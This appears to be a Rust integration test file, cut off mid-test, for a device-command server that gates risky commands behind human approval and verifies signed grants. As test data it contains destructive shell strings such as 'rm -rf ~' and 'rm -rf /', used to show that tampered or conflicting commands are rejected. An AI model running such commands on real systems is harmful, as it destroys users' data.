//! Commands and RED approvals (issue 5), end to end on the real binary: each risk path, the
//! approval's decision, expiry and re-proposal, the Ed25519 grant the device verifies, long-poll
//! delivery with attempts and acks, results from device reports, timeouts, cancel, idempotency,
//! races, roles, tenant isolation, the audit trail and validation. Every transition is checked
//! on the session's SSE stream, the single source of truth for the UI.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};

use crate::support::*;

const WAIT: Duration = Duration::from_secs(20);

static NEXT: AtomicUsize = AtomicUsize::new(0);

/// A fresh client-chosen command id (the idempotency key).
fn new_id(prefix: &str) -> String {
    format!("{prefix}-{}", NEXT.fetch_add(1, Ordering::Relaxed))
}

fn proposal(device: &PairedDevice, kind: &str, params: Value, session: &str) -> Value {
    json!({"command_id": new_id("cmd"), "type": kind, "params": params,
           "device_id": device.id, "session_id": session})
}

async fn send(request: reqwest::RequestBuilder) -> (u16, Value) {
    status_json(request.send().await.expect("send")).await
}

async fn propose_as(server: &TestServer, token: &str, body: &Value) -> (u16, Value) {
    send(
        server
            .as_user(token, Method::POST, "/sidecar/command")
            .json(body),
    )
    .await
}

/// Proposes `body` as the bootstrap admin; expects 202.
async fn propose(server: &TestServer, body: &Value) -> Value {
    let (s, answer) = propose_as(server, &server.admin_token, body).await;
    assert_eq!(s, 202, "propose {body}: {answer}");
    answer
}

async fn get_as(server: &TestServer, token: &str, path: &str) -> (u16, Value) {
    send(server.as_user(token, Method::GET, path)).await
}

async fn command(server: &TestServer, id: &str) -> Value {
    let (s, c) = get_as(server, &server.admin_token, &format!("/commands/{id}")).await;
    assert_eq!(s, 200, "GET /commands/{id}: {c}");
    c
}

async fn approval(server: &TestServer, id: &str) -> Value {
    let (s, a) = get_as(server, &server.admin_token, &format!("/approvals/{id}")).await;
    assert_eq!(s, 200, "GET /approvals/{id}: {a}");
    a
}

async fn decide_as(
    server: &TestServer,
    token: &str,
    approval_id: &str,
    decision: &str,
) -> (u16, Value) {
    send(
        server
            .as_user(
                token,
                Method::POST,
                &format!("/approvals/{approval_id}/decide"),
            )
            .json(&json!({"decision": decision, "reason": format!("{decision} in a test")})),
    )
    .await
}

async fn cancel_as(server: &TestServer, token: &str, id: &str) -> (u16, Value) {
    send(server.as_user(token, Method::POST, &format!("/commands/{id}/cancel"))).await
}

/// `GET /devices/{id}/commands{query}` as the device.
async fn pull(server: &TestServer, device: &PairedDevice, query: &str) -> (u16, Value) {
    send(server.device(Method::GET, device, &format!("/commands{query}"))).await
}

/// The commands a pull returns (expects 200).
async fn pulled(server: &TestServer, device: &PairedDevice, query: &str) -> Vec<Value> {
    let (s, body) = pull(server, device, query).await;
    assert_eq!(s, 200, "pull{query}: {body}");
    body["commands"].as_array().expect("commands").clone()
}

async fn ack(
    server: &TestServer,
    device: &PairedDevice,
    id: &str,
    attempt: Option<u32>,
) -> (u16, Value) {
    let body = match attempt {
        Some(a) => json!({"attempt": a, "received_at": "2026-02-03T10:00:00Z"}),
        None => json!({}),
    };
    send(
        server
            .device(Method::POST, device, &format!("/commands/{id}/ack"))
            .json(&body),
    )
    .await
}

/// The device's report about a command it ran (a result: it finishes the command).
fn result_report(session: &str, command_id: &str, report_id: &str) -> Value {
    let mut r = report(session, report_id);
    r["meta"]["causality"] = json!({"correlation_id": "device-run", "command_id": command_id});
    r["done"] = json!([{"title": "ran it", "detail": "ok"}]);
    r
}

/// `GET /policy`, changes some fields, `PUT /policy` as `token`.
async fn set_policy(server: &TestServer, token: &str, changes: Value) -> (u16, Value) {
    let (s, mut policy) = get_as(server, &server.admin_token, "/policy").await;
    assert_eq!(s, 200, "{policy}");
    for (k, v) in changes.as_object().expect("changes") {
        policy[k] = v.clone();
    }
    send(server.as_user(token, Method::PUT, "/policy").json(&policy)).await
}

async fn admin_policy(server: &TestServer, changes: Value) {
    let (s, saved) = set_policy(server, &server.admin_token, changes.clone()).await;
    assert_eq!(s, 200, "{saved}");
    for (k, v) in changes.as_object().expect("changes") {
        assert_eq!(&saved[k], v, "{saved}");
    }
}

/// Polls `GET /commands/{id}` until it has `status` (or fails after `limit`).
async fn wait_status(server: &TestServer, id: &str, status: &str, limit: Duration) -> Value {
    let deadline = Instant::now() + limit;
    loop {
        let c = command(server, id).await;
        if c["status"] == status {
            return c;
        }
        assert!(
            Instant::now() < deadline,
            "{id} did not become {status} within {limit:?}: {c}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Opens the session's stream and reads past its snapshot.
async fn watch(server: &TestServer, session: &str) -> SseClient {
    let mut stream = server.subscribe(session, None).await;
    assert_eq!(stream.status, 200);
    let first = stream.next_data(WAIT).await.expect("snapshot");
    assert_eq!(first.event, "snapshot");
    stream
}

/// The next `n` status reports the server published about `command_id` (other reports skipped).
async fn status_reports(stream: &mut SseClient, command_id: &str, n: usize) -> Vec<Value> {
    let mut out = Vec::new();
    while out.len() < n {
        let event = stream.next_data(WAIT).await.expect("the stream stays open");
        if event.event != "report" {
            continue;
        }
        let report = event.json();
        if report["meta"]["causality"]["command_id"] != command_id || !report["command"].is_object()
        {
            continue;
        }
        let status = report["command"]["status"].as_str().expect("status");
        assert_eq!(
            report["meta"]["causality"]["type"],
            format!("command.{status}"),
            "{report}"
        );
        assert_eq!(report["command"]["command_id"], command_id, "{report}");
        out.push(report);
    }
    out
}

fn statuses(reports: &[Value]) -> Vec<String> {
    reports
        .iter()
        .map(|r| r["command"]["status"].as_str().expect("status").to_owned())
        .collect()
}

fn st(v: &Value) -> &str {
    v.as_str().unwrap_or_else(|| panic!("not a string: {v}"))
}

async fn user_id(server: &TestServer, token: &str) -> String {
    let (s, me) = get_as(server, token, "/auth/me").await;
    assert_eq!(s, 200, "{me}");
    s_owned(&me["user_id"])
}

fn s_owned(v: &Value) -> String {
    st(v).to_owned()
}

// ---------------------------------------------------------------------------------------------
// Risk paths

#[tokio::test]
async fn green_runs_at_once_long_poll_answers_on_propose_and_every_transition_is_streamed() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let mut stream = watch(&server, "s-green").await;

    // The device is already waiting when the command is proposed.
    let waiting = server.device(Method::GET, &device, "/commands?wait=5");
    let poll = tokio::spawn(async move {
        let started = Instant::now();
        let answer = status_json(waiting.send().await.expect("long-poll")).await;
        (answer, started.elapsed(), Instant::now())
    });
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert!(
        !poll.is_finished(),
        "the long-poll answered before any command existed"
    );

    let mut body = proposal(
        &device,
        "fs.read",
        json!({"path": "/tmp/notes.txt"}),
        "s-green",
    );
    body["client_context"] = json!({"correlation_id": "corr-green-1"});
    let proposed_at = Instant::now();
    let answer = propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    assert_eq!(
        answer,
        json!({"accepted": true, "command_id": cid, "correlation_id": "corr-green-1",
               "risk": "green", "status": "queued", "approval_id": null})
    );

    let ((status, delivered), poll_took, answered_at) = poll.await.expect("join");
    assert_eq!(status, 200, "{delivered}");
    let latency = answered_at.duration_since(proposed_at);
    assert!(
        latency < Duration::from_secs(3) && poll_took < Duration::from_millis(4500),
        "the long-poll answered {latency:?} after the proposal ({poll_took:?} in all): it waited for its timeout"
    );
    let commands = delivered["commands"].as_array().expect("commands");
    assert_eq!(commands.len(), 1, "{delivered}");
    let c = &commands[0];
    assert_eq!(c["command_id"], cid);
    assert_eq!(c["type"], "fs.read");
    assert_eq!(c["params"], json!({"path": "/tmp/notes.txt"}));
    assert_eq!(c["attempt"], 1);
    assert_eq!(c["policy"]["risk"], "GREEN");
    assert!(c["policy"]["approval_id"].is_null(), "{c}");
    assert!(c.get("approval").is_none(), "GREEN needs no grant: {c}");
    assert_eq!(c["client_context"]["session_id"], "s-green");
    assert_eq!(c["client_context"]["correlation_id"], "corr-green-1");
    assert!(c["run_before"].is_string(), "{c}");
    let cursor = s_owned(&delivered["next_cursor"]);

    let record = command(&server, &cid).await;
    assert_eq!(record["status"], "delivered");
    assert_eq!(record["attempt"], 1);
    assert_eq!(record["risk"], "green");
    assert_eq!(record["session_id"], "s-green");

    assert_eq!(
        ack(&server, &device, &cid, Some(1)).await,
        (200, json!({"ok": true}))
    );
    assert_eq!(command(&server, &cid).await["status"], "acked");
    // Acked commands leave the queue: neither the cursor nor a full re-pull returns them.
    assert!(
        pulled(&server, &device, &format!("?cursor={cursor}"))
            .await
            .is_empty()
    );
    assert!(pulled(&server, &device, "").await.is_empty());

    let event_ids = server
        .push(&device, vec![result_report("s-green", &cid, "result-1")])
        .await;
    let done = wait_status(&server, &cid, "succeeded", WAIT).await;
    assert_eq!(done["result"]["report_id"], "result-1", "{done}");
    assert_eq!(done["result"]["event_id"], event_ids[0], "{done}");
    assert!(done["deadline"].is_null(), "{done}");

    let reports = status_reports(&mut stream, &cid, 4).await;
    assert_eq!(
        statuses(&reports),
        ["queued", "delivered", "acked", "succeeded"]
    );
    for r in &reports {
        assert_eq!(r["meta"]["approval_level"], "green", "{r}");
        assert_eq!(
            r["meta"]["causality"]["correlation_id"], "corr-green-1",
            "{r}"
        );
        assert_eq!(r["meta"]["session_id"], "s-green", "{r}");
        assert!(
            r.get("ask").is_none_or(|a| a == &json!([])),
            "GREEN asks nothing: {r}"
        );
    }
    assert_eq!(reports[1]["command"]["attempt"], 1);
}

#[tokio::test]
async fn yellow_warns_and_runs_unless_the_policy_makes_it_wait() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let operator = server.new_member(ORG, "yara@nexus.test", "operator").await;
    let mut stream = watch(&server, "s-yellow").await;

    let body = proposal(
        &device,
        "fs.write",
        json!({"path": "/tmp/a", "text": "hi"}),
        "s-yellow",
    );
    let answer = propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    assert_eq!(answer["risk"], "yellow");
    assert_eq!(answer["status"], "queued");
    assert!(answer["approval_id"].is_null());
    let queued = status_reports(&mut stream, &cid, 1).await.remove(0);
    assert_eq!(queued["meta"]["approval_level"], "yellow", "{queued}");
    let risk = queued["risk"]
        .as_array()
        .expect("a YELLOW command is queued with a warning");
    assert!(!risk.is_empty(), "{queued}");
    assert!(st(&risk[0]["item"]).contains("fs.write"), "{queued}");
    let (s, page) = pull(&server, &device, "").await;
    assert_eq!(s, 200, "{page}");
    let got = page["commands"].as_array().expect("commands");
    assert_eq!(got.len(), 1, "{page}");
    assert_eq!(got[0]["command_id"], cid);
    assert_eq!(got[0]["policy"]["risk"], "YELLOW");
    assert!(got[0].get("approval").is_none(), "{page}");
    let cursor = s_owned(&page["next_cursor"]);

    // The tenant makes YELLOW wait for a human.
    admin_policy(&server, json!({"yellow_requires_approval": true})).await;
    // Without a session the command reports on the device's own session.
    let session = format!("device:{}", device.id);
    let mut device_stream = watch(&server, &session).await;
    let mut body = proposal(&device, "fs.write", json!({"path": "/tmp/b"}), "");
    body.as_object_mut().expect("object").remove("session_id");
    let answer = propose(&server, &body).await;
    let waiting = s_owned(&body["command_id"]);
    assert_eq!(answer["risk"], "yellow");
    assert_eq!(answer["status"], "pending_approval");
    let approval_id = s_owned(&answer["approval_id"]);
    assert!(approval_id.starts_with("apr_"), "{answer}");
    assert_eq!(command(&server, &waiting).await["session_id"], session);
    let pending = status_reports(&mut device_stream, &waiting, 1)
        .await
        .remove(0);
    assert_eq!(pending["meta"]["approval_level"], "yellow", "{pending}");
    assert_eq!(pending["meta"]["causality"]["ask_id"], approval_id.as_str());
    assert_eq!(pending["ask"][0]["type"], "confirm");
    assert_eq!(pending["ask"][0]["severity"], "yellow");
    assert!(
        pulled(&server, &device, &format!("?cursor={cursor}"))
            .await
            .is_empty(),
        "a YELLOW command waiting for approval must not be delivered"
    );
    let (s, decided) = decide_as(&server, &operator.token, &approval_id, "approve").await;
    assert_eq!(s, 202, "{decided}");
    let got = pulled(&server, &device, &format!("?cursor={cursor}")).await;
    assert_eq!(got.len(), 1, "{got:?}");
    assert_eq!(got[0]["command_id"], waiting);
    assert!(
        grant_verifies(&device.server_keys, &device.id, &got[0]),
        "an approved command carries a valid grant: {}",
        got[0]
    );
    assert_eq!(
        statuses(&status_reports(&mut device_stream, &waiting, 2).await),
        ["queued", "delivered"]
    );
}

#[tokio::test]
async fn red_waits_for_approval_and_reaches_the_device_signed() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let operator = server.new_member(ORG, "oscar@nexus.test", "operator").await;
    let admin_id = user_id(&server, &server.admin_token).await;
    let mut stream = watch(&server, "s-red").await;

    let params = json!({"cmd": "ls -la", "cwd": "/home/me", "env": {"B": "2", "A": "1"}});
    let mut body = proposal(&device, "shell.exec", params.clone(), "s-red");
    body["client_context"] = json!({"correlation_id": "corr-red-1"});
    let answer = propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    assert_eq!(answer["accepted"], true);
    assert_eq!(answer["risk"], "red");
    assert_eq!(answer["status"], "pending_approval");
    let approval_id = s_owned(&answer["approval_id"]);
    assert!(approval_id.starts_with("apr_"), "{answer}");

    // The stream asks the user.
    let asked = status_reports(&mut stream, &cid, 1).await.remove(0);
    assert_eq!(asked["meta"]["approval_level"], "red", "{asked}");
    assert_eq!(asked["meta"]["causality"]["ask_id"], approval_id.as_str());
    assert_eq!(asked["meta"]["causality"]["correlation_id"], "corr-red-1");
    assert_eq!(asked["command"]["status"], "pending_approval");
    let ask = &asked["ask"][0];
    assert_eq!(ask["type"], "confirm", "{asked}");
    assert_eq!(ask["severity"], "red", "{asked}");
    assert_eq!(ask["options"], json!(["approve", "deny"]), "{asked}");

    let a = approval(&server, &approval_id).await;
    assert_eq!(a["status"], "pending");
    assert_eq!(a["command_id"], cid);
    assert_eq!(a["device_id"], device.id);
    assert_eq!(a["type"], "shell.exec");
    assert_eq!(a["risk"], "red");
    assert_eq!(a["requested_by"], admin_id);
    assert!(a["decided_by"].is_null());
    let requested = chrono::DateTime::parse_from_rfc3339(st(&a["requested_at"])).expect("rfc3339");
    let expires = chrono::DateTime::parse_from_rfc3339(st(&a["expires_at"])).expect("rfc3339");
    assert_eq!(
        (expires - requested).num_seconds(),
        300,
        "default TTL 5 minutes: {a}"
    );
    let (_, pending) = get_as(&server, &operator.token, "/approvals?status=pending").await;
    assert!(
        pending["approvals"]
            .as_array()
            .expect("list")
            .iter()
            .any(|x| x["approval_id"] == approval_id.as_str()),
        "{pending}"
    );

    // Nothing runnable reaches the device before the decision, however it asks.
    assert!(pulled(&server, &device, "").await.is_empty());
    assert!(
        pulled(&server, &device, "?cursor=0&wait=1")
            .await
            .is_empty()
    );
    assert_eq!(command(&server, &cid).await["status"], "pending_approval");

    // The device is long-polling when the operator approves.
    let waiting = server.device(Method::GET, &device, "/commands?wait=10");
    let poll = tokio::spawn(async move {
        let answer = status_json(waiting.send().await.expect("long-poll")).await;
        (answer, Instant::now())
    });
    tokio::time::sleep(Duration::from_millis(300)).await;
    let approved_at = Instant::now();
    let (s, decided) = decide_as(&server, &operator.token, &approval_id, "approve").await;
    assert_eq!(s, 202, "{decided}");
    assert_eq!(
        decided,
        json!({"accepted": true, "approval_id": approval_id, "status": "approved",
               "command_id": cid, "command_status": "queued"})
    );
    let ((status, delivered), answered_at) = poll.await.expect("join");
    assert_eq!(status, 200);
    assert!(
        answered_at.duration_since(approved_at) < Duration::from_secs(3),
        "approve → device took {:?}",
        answered_at.duration_since(approved_at)
    );
    let got = delivered["commands"].as_array().expect("commands");
    assert_eq!(got.len(), 1, "{delivered}");
    let c = got[0].clone();
    assert_eq!(c["command_id"], cid);
    assert_eq!(c["params"], params);
    assert_eq!(c["attempt"], 1);
    assert_eq!(c["policy"]["risk"], "RED");
    assert_eq!(c["policy"]["approval_id"], approval_id.as_str());
    let grant = &c["approval"];
    assert_eq!(grant["approval_id"], approval_id.as_str(), "{c}");
    assert_eq!(grant["approved_by"], operator.id.as_str(), "{c}");
    assert!(chrono::DateTime::parse_from_rfc3339(st(&grant["approved_at"])).is_ok());
    assert!(chrono::DateTime::parse_from_rfc3339(st(&grant["expires_at"])).is_ok());
    assert!(!st(&grant["kid"]).is_empty() && !st(&grant["signature"]).is_empty());

    // The device checks the signature with the keys it got at pairing.
    assert!(
        device.server_keys["keys"]
            .as_array()
            .is_some_and(|k| !k.is_empty()),
        "{}",
        device.server_keys
    );
    assert!(
        grant_verifies(&device.server_keys, &device.id, &c),
        "the grant must verify: {c}"
    );
    let tampered = |f: &dyn Fn(&mut Value)| {
        let mut t = c.clone();
        f(&mut t);
        grant_verifies(&device.server_keys, &device.id, &t)
    };
    assert!(
        !tampered(&|t| t["params"]["cmd"] = json!("rm -rf ~")),
        "changed params"
    );
    assert!(
        !tampered(&|t| t["params"]["env"]["A"] = json!("x")),
        "changed nested params"
    );
    assert!(
        !tampered(&|t| t["params"]["extra"] = json!(true)),
        "added a param"
    );
    assert!(
        !tampered(&|t| t["type"] = json!("fs.delete")),
        "changed type"
    );
    assert!(
        !tampered(&|t| t["command_id"] = json!("other-command")),
        "changed command id"
    );
    assert!(
        !tampered(&|t| t["approval"]["expires_at"] = json!("2099-01-01T00:00:00.000Z")),
        "extended expiry"
    );
    assert!(
        !tampered(&|t| t["approval"]["approval_id"] = json!("apr_01J00000000000000000000000")),
        "other approval"
    );
    assert!(
        !tampered(&|t| {
            let sig = s_owned(&t["approval"]["signature"]);
            let flipped = if sig.starts_with('A') {
                sig.replacen('A', "B", 1)
            } else {
                format!("A{}", &sig[1..])
            };
            t["approval"]["signature"] = json!(flipped);
        }),
        "changed signature"
    );
    assert!(
        !tampered(&|t| {
            t.as_object_mut().expect("object").remove("approval");
        }),
        "no grant"
    );
    assert!(
        !grant_verifies(&device.server_keys, "dev_01J00000000000000000000000", &c),
        "a grant for one device does not verify on another"
    );
    let mut reordered = c.clone();
    reordered["params"] = json!({"env": {"A": "1", "B": "2"}, "cwd": "/home/me", "cmd": "ls -la"});
    assert!(
        grant_verifies(&device.server_keys, &device.id, &reordered),
        "the signature covers canonical JSON, not the key order on the wire"
    );

    let a = approval(&server, &approval_id).await;
    assert_eq!(a["status"], "approved");
    assert_eq!(a["decided_by"], operator.id.as_str());
    assert_eq!(a["reason"], "approve in a test");

    assert_eq!(ack(&server, &device, &cid, Some(1)).await.0, 200);
    server
        .push(&device, vec![result_report("s-red", &cid, "red-result")])
        .await;
    wait_status(&server, &cid, "succeeded", WAIT).await;
    // After the `pending_approval` report read above, in order:
    let reports = status_reports(&mut stream, &cid, 4).await;
    assert_eq!(
        statuses(&reports),
        ["queued", "delivered", "acked", "succeeded"]
    );
    for r in &reports {
        assert_eq!(r["meta"]["approval_level"], "red", "{r}");
        assert_eq!(
            r["meta"]["causality"]["ask_id"],
            approval_id.as_str(),
            "{r}"
        );
    }
}

#[tokio::test]
async fn a_denied_command_never_reaches_the_device_and_cannot_be_decided_again() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let operator = server.new_member(ORG, "dora@nexus.test", "operator").await;
    let mut stream = watch(&server, "s-deny").await;
    let body = proposal(&device, "fs.delete", json!({"path": "/home/me"}), "s-deny");
    let answer = propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    let approval_id = s_owned(&answer["approval_id"]);

    let (s, decided) = decide_as(&server, &operator.token, &approval_id, "deny").await;
    assert_eq!(s, 202, "{decided}");
    assert_eq!(decided["status"], "denied");
    assert_eq!(decided["command_status"], "denied");
    assert_eq!(command(&server, &cid).await["status"], "denied");
    let a = approval(&server, &approval_id).await;
    assert_eq!(a["status"], "denied");
    assert_eq!(a["decided_by"], operator.id.as_str());

    for decision in ["approve", "deny"] {
        for token in [&operator.token, &server.admin_token] {
            let (s, b) = decide_as(&server, token, &approval_id, decision).await;
            assert_problem(s, &b, 409, "approval_already_decided");
        }
    }
    assert!(pulled(&server, &device, "?wait=1").await.is_empty());
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());
    let c = command(&server, &cid).await;
    assert_eq!(c["status"], "denied");
    assert_eq!(c["attempt"], 0, "never delivered: {c}");
    // A device cannot finish it either.
    server
        .push(&device, vec![result_report("s-deny", &cid, "sneaky")])
        .await;
    assert_eq!(command(&server, &cid).await["status"], "denied");
    let (s, b) = cancel_as(&server, &server.admin_token, &cid).await;
    assert_problem(s, &b, 409, "command_not_cancellable");

    let reports = status_reports(&mut stream, &cid, 2).await;
    assert_eq!(statuses(&reports), ["pending_approval", "denied"]);
    assert!(
        st(&reports[1]["done"][0]["detail"]).contains("deny in a test"),
        "{}",
        reports[1]
    );
}

#[tokio::test]
async fn an_untouched_approval_expires_by_itself_and_can_be_reproposed() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    admin_policy(&server, json!({"approval_ttl_secs": 1})).await;
    let mut stream = watch(&server, "s-expire").await;
    let body = proposal(
        &device,
        "email.send",
        json!({"to": "boss@corp.test"}),
        "s-expire",
    );
    let proposed_at = Instant::now();
    let answer = propose(&server, &body).await;
    let cid = s_owned(&body["command_id"]);
    let approval_id = s_owned(&answer["approval_id"]);

    // Nobody touches the approval: only the stream is read. The sweeper expires it.
    let reports = status_reports(&mut stream, &cid, 2).await;
    let expired_after = proposed_at.elapsed();
    assert_eq!(statuses(&reports), ["pending_approval", "expired"]);
    assert!(
        expired_after >= Duration::from_millis(900) && expired_after < Duration::from_secs(5),
        "expired after {expired_after:?}"
    );
    assert_eq!(
        reports[1]["meta"]["causality"]["ask_id"],
        approval_id.as_str()
    );

    let a = approval(&server, &approval_id).await;
    assert_eq!(a["status"], "expired", "{a}");
    assert!(a["decided_by"].is_null(), "{a}");
    assert_eq!(command(&server, &cid).await["status"], "expired");
    let (_, expired) = get_as(&server, &server.admin_token, "/approvals?status=expired").await;
    assert_eq!(
        expired["approvals"][0]["approval_id"],
        approval_id.as_str(),
        "{expired}"
    );
    for decision in ["approve", "deny"] {
        let (s, b) = decide_as(&server, &server.admin_token, &approval_id, decision).await;
        assert_problem(s, &b, 409, "approval_expired");
    }
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());

    // Re-proposing creates a fresh proposal linked to the old one.
    let (s, again) = send(server.web(Method::POST, &format!("/commands/{cid}/repropose"))).await;
    assert_eq!(s, 202, "{again}");
    let new_id = s_owned(&again["command_id"]);
    assert_ne!(new_id, cid);
    assert_eq!(again["status"], "pending_approval");
    assert_eq!(again["risk"], "red");
    let new_approval = s_owned(&again["approval_id"]);
    assert_ne!(new_approval, approval_id);
    let c = command(&server, &new_id).await;
    assert_eq!(c["replaces"], cid.as_str());
    assert_eq!(c["type"], "email.send");
    assert_eq!(c["params"], json!({"to": "boss@corp.test"}));
    assert_eq!(c["device_id"], device.id);
    assert_eq!(c["session_id"], "s-expire");
    assert_eq!(approval(&server, &new_approval).await["status"], "pending");
    let fresh = status_reports(&mut stream, &new_id, 1).await.remove(0);
    assert_eq!(fresh["command"]["replaces"], cid.as_str(), "{fresh}");
    assert_eq!(fresh["meta"]["causality"]["ask_id"], new_approval.as_str());
    // Only an ended command can be re-proposed.
    let (s, b) = send(server.web(Method::POST, &format!("/commands/{new_id}/repropose"))).await;
    assert_problem(s, &b, 409, "command_not_ended");

    // Past its expiry but before the sweeper gets to it, a decision is already refused.
    let late = proposal(&device, "shell.exec", json!({"cmd": "true"}), "s-expire");
    let answer = propose(&server, &late).await;
    tokio::time::sleep(Duration::from_millis(1050)).await;
    let (s, b) = decide_as(
        &server,
        &server.admin_token,
        st(&answer["approval_id"]),
        "approve",
    )
    .await;
    assert_problem(s, &b, 409, "approval_expired");
    wait_status(&server, st(&late["command_id"]), "expired", WAIT).await;
    assert!(pulled(&server, &device, "?cursor=0").await.is_empty());

    let expiries: Vec<Value> = server
        .audit_entries()
        .await
        .into_iter()
        .filter(|e| e["action"] == "approval.expire")
        .collect();
    assert_eq!(expiries.len(), 3, "{expiries:?}");
    for e in &expiries {
        assert_eq!(e["actor"], json!({"type": "system", "id": "nexus"}), "{e}");
        assert_eq!(e["target"]["type"], "command", "{e}");
        // Nobody's request did it: the entry carries the command's own correlation id.
        let expired = command(&server, st(&e["target"]["id"])).await;
        assert_eq!(expired["status"], "expired", "{expired}");
        assert_eq!(e["correlation_id"], expired["correlation_id"], "{e}");
        assert!(e["details"]["approval_id"] == expired["approval_id"], "{e}");
    }
}

#[tokio::test]
async fn twenty_concurrent_decisions_have_exactly_one_winner() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let ops = [
        server.new_member(ORG, "ann@nexus.test", "operator").await,
        server.new_member(ORG, "ben@nexus.test", "operator").await,
    ];
    let mut cursor = "0".to_owned();
    for round in 0..3 {
        let body = proposal(
            &device,
            "shell.exec",
            json!({"cmd": format!("echo {round}")}),
            "s-race",
        );
        let answer = propose(&server, &body).await;
        let cid = s_owned(&body["command_id"]);
        let approval_id = s_owned(&answer["approval_id"]);
        let requests = (0..20).map(|i| {
            let op = &ops[i % 2];
            // Round 0 starts with approvals, round 1 with denials, round 2 alternates.
            let approve = match round {
                0 => i < 10,
                1 => i >= 10,
                _ => i % 3 == 0,
            };
            let decision = if approve { "approve" } else { "deny" };
            let request = server
                .as_user(
                    &op.token,
                    Method::POST,
                    &format!("/approvals/{approval_id}/decide"),
                )
                .json(&json!({"decision": decision}));
            async move { (op.id.clone(), decision, send(request).await) }
        });
        let results = futures::future::join_all(requests).await;
        let winners: Vec<_> = results.iter().filter(|(_, _, (s, _))| *s == 202).collect();
        assert_eq!(winners.len(), 1, "round {round}: {results:?}");
        for (_, _, (s, b)) in results.iter().filter(|(_, _, (s, _))| *s != 202) {
            assert_problem(*s, b, 409, "approval_already_decided");
        }
        let (winner, decision, (_, won)) = winners[0];
        let a = approval(&server, &approval_id).await;
        assert_eq!(a["decided_by"], winner.as_str(), "{a}");
        let expected = if *decision == "approve" {
            "approved"
        } else {
            "denied"
        };
        assert_eq!(a["status"], expected);
        assert_eq!(won["status"], expected);

        let (_, page) = pull(&server, &device, &format!("?cursor={cursor}")).await;
        let got = page["commands"].as_array().expect("commands");
        if *decision == "approve" {
            assert_eq!(got.len(), 1, "delivered exactly once: {page}");
            assert_eq!(got[0]["command_id"], cid);
            assert_eq!(got[0]["attempt"], 1);
            assert!(grant_verifies(&device.server_keys, &device.id, &got[0]));
            assert_eq!(got[0]["approval"]["approved_by"], winner.as_str());
            assert_eq!(ack(&server, &device, &cid, Some(1)).await.0, 200);
        } else {
            assert!(got.is_empty(), "{page}");
        }
        cursor = s_owned(&page["next_cursor"]);
        assert!(pulled(&server, &device, "?cursor=0").await.is_empty());
        let decisions = server
            .audit_entries()
            .await
            .into_iter()
            .filter(|e| {
                matches!(
                    e["action"].as_str(),
                    Some("approval.approve" | "approval.deny")
                ) && e["details"]["approval_id"] == approval_id.as_str()
            })
            .count();
        assert_eq!(decisions, 1, "round {round}: one decision is audited");
    }
}

#[tokio::test]
async fn four_eyes_the_requester_cannot_approve_their_own_command() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let requester = server.new_member(ORG, "rita@nexus.test", "operator").await;
    let other = server.new_member(ORG, "otto@nexus.test", "operator").await;

    // Without the rule a requester may approve their own command.
    let body = proposal(&device, "shell.exec", json!({"cmd": "uptime"}), "s-4eyes");
    let (s, answer) = propose_as(&server, &requester.token, &body).await;
    assert_eq!(s, 202, "{answer}");
    let (s, b) = decide_as(
        &server,
        &requester.token,
        st(&answer["approval_id"]),
        "approve",
    )
    .await;
    assert_eq!(s, 202, "{b}");

    admin_policy(&server, json!({"require_distinct_approver": true})).await;
    let body = proposal(&device, "shell.exec", json!({"cmd": "reboot"}), "s-4eyes");
    let (s, answer) = propose_as(&server, &requester.token, &body).await;
    assert_eq!(s, 202, "{answer}");
    let approval_id = s_owned(&answer["approval_id"]);
    let (s, b) = decide_as(&server, &requester.token, &approval_id, "approve").await;
    assert_problem(s, &b, 403, "distinct_approver_required");
    assert_eq!(approval(&server, &approval_id).await["status"], "pending");
    assert_eq!(
        command(&server, st(&body["command_id"])).await["status"],
        "pending_approval"
    );
    let (s, b) = decide_as(&server, &other.token, &approval_id, "approve").await;
    assert_eq!(s, 202, "{b}");
    let a = approval(&server, &approval_id).await;
    assert_eq!(a["decided_by"], other.id.as_str());

    // Admins are no exception; but anyone may stop their own command.
    let body = proposal(&device, "shell.exec", json!({"cmd": "halt"}), "s-4eyes");
    let answer = propose(&server, &body).await;
    let approval_id = s_owned(&answer["approval_id"]);
    let (s, b) = decide_as(&server, &server.admin_token, &approval_id, "approve").await;
    assert_problem(s, &b, 403, "distinct_approver_required");
    let (s, b) = decide_as(&server, &server.admin_token, &approval_id, "deny").await;
    assert_eq!(s, 202, "{b}");
}

#[tokio::test]
async fn proposing_is_idempotent_per_command_id() {
    let server = TestServer::start().await;
    let device = server.pair_device("pc").await;
    let other_device = server.pair_device("laptop").await;
    let operator = server.new_member(ORG, "ida@nexus.test", "operator").await;

    let body = proposal(&device, "shell.exec", json!({"cmd": "whoami"}), "s-idem");
    let cid = s_owned(&body["command_id"]);
    let first = propose(&server, &body).await;
    let second = propose(&server, &body).await;
    assert_eq!(first, second, "the same request gets the same answer");
    let (_, list) = get_as(&server, &server.admin_token, "/commands").await;
    let mine: Vec<_> = list["commands"]
        .as_array()
        .expect("list")
        .iter()
        .filter(|c| c["command_id"] == cid.as_str())
        .collect();
    assert_eq!(mine.len(), 1, "{list}");
    let (_, approvals) = get_as(&server, &server.admin_token, "/approvals").await;
    assert_eq!(
        approvals["approvals"].as_array().expect("list").len(),
        1,
        "{approvals}"
    );

    // The same id for anything else is a conflict, and changes nothing.
    let mut conflicts = Vec::new();
    for (field, value) in [
        ("params", json!({"cmd": "rm -rf /"})),
        ("type", json!("fs.delete")),
        ("device_id", json!(other_device.id)),
        ("session_id", json!("s-elsewhere")),
    ] {
        let mut changed = body.clone();
        changed[field] = value;
        conflicts.push((field, changed));
    }
